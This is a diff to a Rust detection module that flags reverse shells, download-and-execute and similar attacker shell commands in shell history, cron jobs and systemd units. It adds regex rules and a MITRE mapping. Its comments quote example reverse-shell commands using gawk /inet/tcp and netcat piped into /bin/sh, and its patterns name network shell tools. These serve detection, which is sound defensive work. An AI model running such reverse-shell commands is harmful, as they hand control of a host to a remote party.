@@ -1,17 +1,19 @@
 //! Attacker tradecraft in shell commands: download-and-execute, reverse shells, encoded
 //! payloads run by a shell, and TTY upgrades.
 //!
-//! Reads `run` events that carry a `cmd` attribute (shell history, and any other source
-//! of command lines). Each command is matched against the [`RULES`] below; a command
-//! raises only its most severe matching rules, and the same command seen several times
-//! is one alarm that references every occurrence. A second pass follows the commands of
-//! each history file in order to catch a file downloaded with curl/wget and then run
-//! (see `download_exec`).
+//! Reads `run` events that carry a `cmd` attribute (shell history, auditd, sudo, and any
+//! other source of command lines) and the commands of cron jobs and systemd units (a
+//! reverse shell or a download piped into a shell is as bad scheduled as typed). Each
+//! command is matched against the [`RULES`] below; a command raises only its most severe
+//! matching rules, and the same command seen several times is one alarm that references
+//! every occurrence. A second pass follows the commands of each history file in order to
+//! catch a file downloaded with curl/wget and then run (see `download_exec`).
 //!
 //! Download piped into a shell is High when the source looks throwaway (plain http/ftp,
 //! an IP address, certificate checks turned off, no URL at all) and Medium for an https
 //! URL on a named host, which is how many legitimate installers are distributed.
 
+use super::commands::{command_lines, where_};
 use crate::{Detector, mitre, shorten};
 use regex::Regex;
 use riposte_model::{Action, Alarm, Event, Severity};
@@ -61,9 +63,14 @@ const RULES: &[Rule] = &[
         title: "Reverse shell",
         why: "A shell was wired to a network connection, giving a remote party interactive control of the host.",
         severity: Severity::High,
-        mitre: &[("execution", "T1059.004")],
+        // T1095: the shell travels over a raw TCP/UDP socket, not an application protocol.
+        mitre: &[("execution", "T1059.004"), ("command-and-control", "T1095")],
         alternatives: &[
             &[r"/dev/(?:tcp|udp)/[^/\s]+/\d+"],
+            // gawk's network special files: `awk 'BEGIN{s="/inet/tcp/0/10.0.0.1/4242"…'`.
+            &[r"/inet/(?:tcp|udp)/\d+/[^/\s]+/\d+"],
+            // `nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445`: commands in, output out.
+            &[r"\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^|;&]*\d\s*{PIPE_SH}"],
             &[
                 r#"\b(?:nc|ncat|netcat)(?:\.\w+)?\s(?:.*\s)?(?:-[a-zA-Z]*[ec]\s*["']?{SH}|--(?:sh-|lua-)?exec\b)"#,
             ],
@@ -177,7 +184,7 @@ impl Detector for ShellHistory {
         // (rule, command) → occurrences, in first-seen order.
         let mut hits: BTreeMap<(usize, &str), Vec<usize>> = BTreeMap::new();
         let mut order = Vec::new();
-        for (index, cmd) in commands(events) {
+        for (index, cmd) in command_lines(events).map(|c| (c.index, c.text)) {
             let matched: Vec<usize> = (0..RULES.len()).filter(|&r| matches(r, cmd)).collect();
             let top = matched.iter().map(|&r| severity(r, cmd)).max();
             for r in matched
@@ -200,7 +207,7 @@ impl Detector for ShellHistory {
     }
 }
 
-/// `(index, cmd)` of every `run` event with a command line.
+/// `(index, cmd)` of every `run` event with a command line (what `download_exec` follows).
 fn commands(events: &[Event]) -> impl Iterator<Item = (usize, &str)> {
     events
         .iter()
@@ -282,19 +289,6 @@ fn alarm(rule: usize, cmd: &str, occurrences: &[usize], events: &[Event]) -> Ala
         rule_id: None,
         files: Vec::new(),
     }
-}
-
-/// `/home/bob/.bash_history line 12, 2024-03-01T10:00:00+00:00` for descriptions.
-pub(crate) fn where_(e: &Event) -> String {
-    let mut s = e.origin.path.clone();
-    if let Some(record) = e.origin.record {
-        s.push_str(&format!(" line {record}"));
-    }
-    match e.time {
-        Some(t) => s.push_str(&format!(", {}", t.to_rfc3339())),
-        None => s.push_str(", time unknown"),
-    }
-    s
 }
 
 #[cfg(test)]
